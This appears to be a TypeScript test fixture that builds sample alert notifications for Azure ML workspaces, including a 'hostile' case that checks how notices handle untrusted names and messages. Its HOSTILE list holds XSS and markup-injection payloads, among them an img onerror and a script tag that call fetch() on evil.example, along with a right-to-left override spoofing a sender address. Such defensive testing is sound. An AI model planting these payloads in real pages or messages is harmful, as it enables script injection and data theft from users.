import { digestNotification } from '../../src/core/alert/content/digest.ts';
import type { Notification, NotificationInput } from '../../src/core/alert/content/notification.ts';
import { notificationsFor } from '../../src/core/alert/content/notification.ts';
import type { NotificationInstance } from '../../src/core/alert/content/notification-parts.ts';
import type { AlertState } from '../../src/core/alert/decision/alert-state.ts';
import { NEVER_NOTIFIED } from '../../src/core/alert/decision/alert-state.ts';
import { storedGroupKey } from '../../src/core/verdict/catalogue/group-key.ts';

export const PAGES_URL = 'https://hubwarden.contoso.com';
const NOW = new Date('2026-11-23T08:00:00Z');
const SINCE = '2026-11-23T07:58:00.000Z';

export function hubId(name: string): string {
  return `/subscriptions/00000000-0000-4000-8000-000000000001/resourcegroups/rg-ai-production/providers/microsoft.machinelearningservices/workspaces/${name}`;
}

function member(name: string, changes: Partial<NotificationInstance> = {}): NotificationInstance {
  return {
    hubId: hubId(name),
    hubName: name,
    code: 'HW204',
    severity: 'critical',
    rule: 'tunnel',
    message: `tunnel of ${name} opens *.ngrok.io, which assignment production forbids.`,
    fix: 'Delete the rule and talk to whoever created it.',
    by: 'dev@contoso.com',
    done: 'a write that ends it is under way',
    since: SINCE,
    firing: true,
    ...changes,
  };
}

function noticeOf(
  members: readonly NotificationInstance[],
  transition: 'Opened' | 'Resolved' = 'Opened',
  changes: Partial<NotificationInput> = {},
): Notification {
  const after: AlertState = {
    ...NEVER_NOTIFIED,
    open: transition === 'Opened',
    episode: 1,
    notices: 1,
    since: SINCE,
    openings: [SINCE],
  };
  const reason = transition === 'Opened' ? 'FirstFiring' : 'AllResolved';
  const decision = { reason, transition, hubs: members.map((each) => each.hubId) } as const;
  const input = {
    groupKey: storedGroupKey('HW204|x'),
    group: 'g',
    before: NEVER_NOTIFIED,
    after,
    instances: members,
    decision,
    pagesUrl: PAGES_URL,
  };
  const [made] = notificationsFor({ ...input, now: NOW, ...changes });
  return made as Notification;
}

const numbered = (count: number): readonly string[] =>
  Array.from({ length: count }, (_, n) => `hub-production-${String(n).padStart(4, '0')}`);

/** What a person with bad intent can put into names and messages that reach a notice. */
export const HOSTILE = [
  '[click here](https://evil.example/markdown)',
  '<a href="https://evil.example/html">click</a>',
  '<img src=https://evil.example/pixel.png onerror=fetch("https://evil.example/stolen")>',
  '<script>fetch("https://evil.example/script")</script>',
  '**bold** _italic_ ![x](https://evil.example/image.png)',
  '{{DATE(2026-11-23T08:00:00Z,SHORT)}}',
] as const;

/** Turns what is behind it around: `moc.live` reads `evil.com`. */
const RIGHT_TO_LEFT = '\u202e';

export const NOTIFICATIONS = {
  openedOnOne: noticeOf([member('hub-production-01')]),
  openedOn500: noticeOf(numbered(500).map((name) => member(name))),
  resolved: noticeOf([member('hub-production-01', { firing: false, endedBecause: 'gone' })], 'Resolved'),
  digest: digestNotification({
    hubs: numbered(500).map((name) => ({
      hubId: hubId(name),
      hubName: name,
      codes: ['HW103', 'HW203', 'HW207', 'HW208', 'HW701'],
    })),
    swept: 600,
    compliant: 90,
    isFirst: false,
    number: 2,
    sweepId: 's1',
    pagesUrl: PAGES_URL,
    now: NOW,
  }),
  longest: noticeOf(
    [
      member(`hub-${'x'.repeat(29)}`, {
        rule: 'r'.repeat(80),
        message: `${'An error text of Azure goes on and on. '.repeat(100)}${'without-any-blank-'.repeat(100)}`,
        fix: 'abcdefghij'.repeat(200),
        by: `${'somebody-with-a-long-name-'.repeat(10)}@contoso.com`,
        done: 'nothing: '.repeat(200),
      }),
    ],
    'Opened',
    { pagesUrl: `https://${'deep.'.repeat(40)}contoso.com` },
  ),
  hostile: noticeOf([
    member('hub-production-01', {
      rule: HOSTILE[0],
      message: HOSTILE.slice(1, 4).join(' '),
      fix: HOSTILE[4],
      by: `${RIGHT_TO_LEFT}moc.osotnoc@nimda`,
      done: HOSTILE[5],
    }),
  ]),
} as const satisfies Readonly<Record<string, Notification>>;
